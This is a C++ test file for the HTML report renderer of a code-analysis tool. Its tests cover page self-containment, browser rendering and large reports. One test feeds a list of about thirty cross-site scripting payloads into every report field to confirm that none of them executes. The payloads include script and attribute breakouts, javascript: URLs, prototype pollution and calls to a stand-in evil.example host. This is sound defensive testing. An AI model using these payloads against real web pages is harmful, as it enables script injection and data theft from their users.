#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "reporters/render/render.hpp"
#include "tests/reporters/hostile.hpp"
#include "tests/reporters/outside.hpp"
#include "tests/reporters/sample_report.hpp"

namespace peer {
namespace {

using testing::HasSubstr;
using testing::Not;

std::string html(const Report& report, const RenderOptions& options = {}) {
  return find_renderer("html")->render(report, options);
}

/// Ways into a page: markup, attributes, addresses, template and script ends, each with a mark if
/// it runs.
std::vector<std::string> payloads() {
  std::vector<std::string> texts = test::hostile_texts();
  const std::vector<std::string> code{"window.pwned=1", "alert(1)",
                                      "fetch('https://evil.example/')"};
  const std::vector<std::pair<std::string, std::string>> around{
      {"<script>", "</script>"},
      {"</script><script>", "</script>"},
      {"</SCRIPT ><svg onload=", ">"},
      {"<img src=x onerror=", ">"},
      {"\"><img src=x onerror=\"", "\">"},
      {"' autofocus onfocus='", "'"},
      {"<svg><animate onbegin=", " attributeName=x>"},
      {"<iframe srcdoc='<script>", "</script>'></iframe>"},
      {"<a href=\"javascript:", "\">x</a>"},
      {"javascript:", "//"},
      {"<details open ontoggle=", ">"},
      {"<!--<script>", "-->"},
      {"]]><script>", "</script>"},
      {"</title><script>", "</script>"},
      {"</style><script>", "</script>"},
      {"</noscript><script>", "</script>"},
      {"<base href=https://evil.example/><script src=", "></script>"},
      {"<meta http-equiv=refresh content=\"0;url=data:text/html,<script>", "</script>\">"},
      {"<form action=https://evil.example/><input onfocus=", " autofocus></form>"},
      {"<object data=\"data:text/html,<script>", "</script>\"></object>"},
      {"\xE2\x80\xA8</script><script>", "</script>"},
      {"${", "}"},
      {"`+(", ")+`"},
      {"\\u003cscript\\u003e", "\\u003c/script\\u003e"},
      {"&lt;script&gt;", "&lt;/script&gt;"},
      {"<math><mtext><style><img src=x onerror=", "></style></mtext></math>"},
      {"<template><script>", "</script></template>"},
      {"__proto__", "constructor"},
      {"\";", "//"},
      {"{\"__proto__\":{\"x\":\"", "\"}}"},
      {"<link rel=stylesheet href=https://evil.example/a.css>", ""},
      {"<video><source onerror=", "></video>"},
      {"<body onload=", ">"},
      {"<x style=\"background:url(https://evil.example/)\" onclick=", ">x</x>"},
  };
  for (const auto& [before, after] : around)
    for (const auto& each : code)
      texts.push_back(before + each + after);
  return texts;
}

Report attacked() {
  auto report = test::sample_report();
  const auto model = report.findings[0];
  report.findings.clear();
  report.rules.clear();
  for (const auto& text : payloads()) {
    auto finding = model;
    finding.rule = finding.path = finding.message = finding.why = finding.help = finding.symbol =
        text;
    finding.frame = {1, {text, text}};
    finding.related = {{test::place(1, 1, 1, 2), text, {1, {text}}}};
    finding.tools = {text};
    finding.fix = Fix{text, {{{0, 1}, text}}, Safety::safe, "rule", {{{0, 1}, {1, 1}, {1, 2}}}};
    ReportedRule rule = test::rule_of(finding, text);
    rule.references = {text, "javascript:window.pwned=1"};
    report.rules.push_back(rule);
    report.findings.push_back(finding);
    report.degraded.push_back(text);
    test::add_file(report, text, CoverageStatus::skipped, 1, text);
  }
  report.change.description = report.command = report.tool_version =
      "</title><script>window.pwned=1</script>";
  report.complexity = {{"<img src=x onerror=alert(1)>", {"<script>alert(1)</script>", 1, 2, 3, 4}}};
  decide(report);
  return report;
}

TEST(Html, IsOnePageThatAsksForNothing) {
  const auto page = html(test::sample_report());
  EXPECT_THAT(page, HasSubstr("default-src 'none'"));
  for (const auto* word : {"http-equiv=\"refresh\"", "@import", "src=\"", "url("})
    EXPECT_THAT(page, Not(HasSubstr(word)));
  EXPECT_THAT(page, HasSubstr("Peer 0.1.0"));
  EXPECT_THAT(html(test::incomplete_report()), HasSubstr("over the limit"));
}

TEST(Html, WorksInABrowserWithKeysFiltersThemesAndForEveryone) {
  const test::Folder folder;
  auto report = test::sample_report();
  report.suppressed.push_back(test::import_finding());
  report.suppressed.back().suppressed = Suppression{"inline", "tests use it"};
  report.findings[1].confidence = 0.85;  // so that every limit parts them
  report.findings[2].confidence = 0.7;
  RenderOptions options;
  options.history = {{"2026-11-01 03:00", "aaaa", 9, false, 0, 0, 0},
                     {"2026-11-08 03:00", "bbbb", 3, true, 1, 7, 2}};
  const auto file = folder.write("sample.html", html(report, options));
  const auto pictures = std::filesystem::path(PEER_SOURCE_DIR) / "build" / "screenshots";
  std::filesystem::create_directories(pictures);
  for (const auto* scheme : {"light", "dark"})
    std::filesystem::remove(pictures / ("report-" + std::string(scheme) + ".png"));
  const auto looked =
      test::run(test::tool("html_page.mjs") + " sample '" + file + "' '" + pictures.string() + "'");
  EXPECT_EQ(looked.code, 0) << looked.output;
  for (const auto* scheme : {"light", "dark"}) {
    std::ifstream in(pictures / ("report-" + std::string(scheme) + ".png"), std::ios::binary);
    const std::string bytes((std::istreambuf_iterator<char>(in)), {});
    EXPECT_TRUE(bytes.starts_with("\x89PNG")) << "docs/html-report.md says that it is there";
    EXPECT_GT(bytes.size(), 20'000U);
  }
}

TEST(Html, NothingInAReportRuns) {
  ASSERT_GE(payloads().size(), 100U);
  const test::Folder folder;
  const auto looked = test::run(test::tool("html_page.mjs") + " hostile '" +
                                folder.write("hostile.html", html(attacked())) + "'");
  EXPECT_EQ(looked.code, 0) << looked.output;
}

TEST(Html, TenThousandFindingsStayUsable) {
  auto report = test::sample_report();
  const auto model = report.findings;
  report.findings.clear();
  for (int i = 0; i < 10000; ++i) {
    auto finding = model[static_cast<std::size_t>(i) % model.size()];
    finding.path = "src/file" + std::to_string(i % 700) + ".py";
    finding.rule = "rule-" + std::to_string(i % 40);
    finding.message = "message " + std::to_string(i);
    finding.fingerprint += std::to_string(i);
    report.findings.push_back(finding);
  }
  decide(report);
  const test::Folder folder;
  const auto looked = test::run(test::tool("html_page.mjs") + " large '" +
                                folder.write("large.html", html(report)) + "'");
  EXPECT_EQ(looked.code, 0) << looked.output;
}

}  // namespace
}  // namespace peer
